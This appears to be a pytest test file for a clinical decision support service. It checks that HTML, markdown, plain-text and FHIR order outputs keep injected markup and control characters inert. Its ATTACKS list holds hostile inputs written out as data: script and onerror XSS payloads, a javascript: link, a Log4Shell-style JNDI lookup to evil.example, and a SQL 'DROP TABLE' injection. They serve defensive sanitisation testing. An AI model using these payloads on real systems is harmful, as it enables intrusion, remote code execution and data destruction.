"""Markup, control and direction characters in every text field of the record stay inert in every format."""

import json
import re
import unicodedata
from html.parser import HTMLParser

import msgspec
import pytest
from markdown_it import MarkdownIt

from cards import cards_for, explain, plain_text
from cards.formats import FORMATS
from cds_service.risk.assessment import Assessment, Finding, GateFinding, Unknown
from cds_service.risk.record import Evidence, Gap, NotCoded
from tests.conformance.cards_check import problems
from tests.unit.cards.patients import CARDS, LEFT_THIGH, on, options

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example www.evil.example me@evil.example",
    "**bold** _it_ `code` ~~gone~~",
    "line\n\n# heading\n- item\n1. item\n> quote",
    "| a | b |\n|---|---|\n| c | d |",
    "```\nfence\n```",
    "&lt;b&gt; &#60;script&#62; &amp;",
    "</li></ul><h1>x",
    "[ref]: https://evil.example",
    "\u202egnirts desrever\u202c \u200b\u2066x",
    "\x00\x07\x1b[31mred",
    "{drug} {0} %s ${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %}",
    "\\*not escaped\\* \\",
    "A" * 5_000,
    "Z" + "\u0301" * 500,
    "'; DROP TABLE cards; --",
)
LINKS_AND_IMAGES = re.compile(r"<(a|img|script|iframe|h\d|table|blockquote|code|em|del|ol)\b")
GFM = MarkdownIt("gfm-like", {"html": True, "linkify": False})


class Tags(HTMLParser):
    """The tags of a text, and the text without them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add(tag if not attrs else f"{tag} with attributes")


def poisoned(base: Assessment, text: str) -> Assessment:
    """The assessment with ``text`` wherever the record's own text can stand."""
    proof = Evidence("Condition", f"Condition/{text}", "http://snomed.info/sct", text, text, on("2024-01-02"), text)
    findings = tuple(poisoned_finding(finding, text, proof) for finding in base.findings)
    limb = msgspec.structs.replace(LEFT_THIGH, evidence=(proof,))
    decisions = tuple(
        msgspec.structs.replace(decision, values={"on": text, "last_seen": text, "due": text})
        for decision in base.decisions
    )
    return msgspec.structs.replace(
        base,
        findings=findings,
        decisions=decisions,
        limbs=msgspec.structs.replace(base.limbs, limbs=(limb,), evidence=(proof,)),
        gates=(GateFinding(gate=text, effect="suppress", values={"on": text}, evidence=(proof,), remarks=(text,)),),
        unknowns=(Unknown(item=text, core=True, why=text, rule=text, values={"low": text}),),
        gaps=(Gap(text, text, text),),
        not_coded=(NotCoded(text, text, text),),
    )


def poisoned_finding(finding: Finding, text: str, proof: Evidence) -> Finding:
    values = {name: text if isinstance(value, str) else value for name, value in finding.values.items()}
    observed = msgspec.structs.replace(proof, resource_type="Observation")
    return msgspec.structs.replace(
        finding, values=values | {"drug": text}, evidence=(proof, observed), remarks=(*finding.remarks, text)
    )


def is_clean(text: str) -> bool:
    return not {unicodedata.category(c) for c in text if c != "\n"} & {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", CARDS)
def test_an_attack_in_the_record_leaves_every_card_well_formed(name: str, attack: str) -> None:
    for text_format in FORMATS:
        cards = cards_for(poisoned(CARDS[name], attack), options(text_format=text_format, language="sv"))
        assert problems(cards) == []
        assert all(is_clean(card["summary"]) and is_clean(card["detail"]) for card in cards)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", CARDS)
def test_html_holds_only_our_own_tags(name: str, attack: str) -> None:
    (card,) = cards_for(poisoned(CARDS[name], attack), options(text_format="html"))
    tags = Tags()
    tags.feed(card["detail"])
    assert tags.found <= {"p", "ul", "li", "strong"}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("name", CARDS)
def test_markdown_renders_to_our_own_tags_even_where_raw_html_is_let_in(name: str, attack: str) -> None:
    (card,) = cards_for(poisoned(CARDS[name], attack), options(text_format="markdown"))
    page = GFM.render(card["detail"])
    assert LINKS_AND_IMAGES.search(page) is None
    tags = Tags()
    tags.feed(page)
    assert tags.found <= {"p", "ul", "li", "strong"}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("version", ["R4", "R5", "STU3"])
def test_orders_stay_valid_and_their_notes_hold_no_markup(version: str, attack: str) -> None:
    (card,) = cards_for(poisoned(CARDS["K1"], attack), options(fhir_version=version))
    for suggestion in card["suggestions"]:
        resource = suggestion["actions"][0]["resource"]
        note = resource["note"][0]["text"]
        assert is_clean(note)
        assert not set("<>[]*`|#\\") & set(note)
        assert "evil.example/" not in json.dumps(resource.get("reasonReference", []))


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_and_explanations_stay_on_their_lines(attack: str) -> None:
    assessment = poisoned(CARDS["K1"], attack)
    assert is_clean(plain_text(assessment, "sv"))
    assert all(
        "\n" not in explain(finding, "en") and is_clean(explain(finding, "en")) for finding in assessment.findings
    )
    honest = plain_text(CARDS["K1"], "sv").count("\n")
    assert abs(plain_text(assessment, "sv").count("\n") - honest) <= len(assessment.findings) + 2
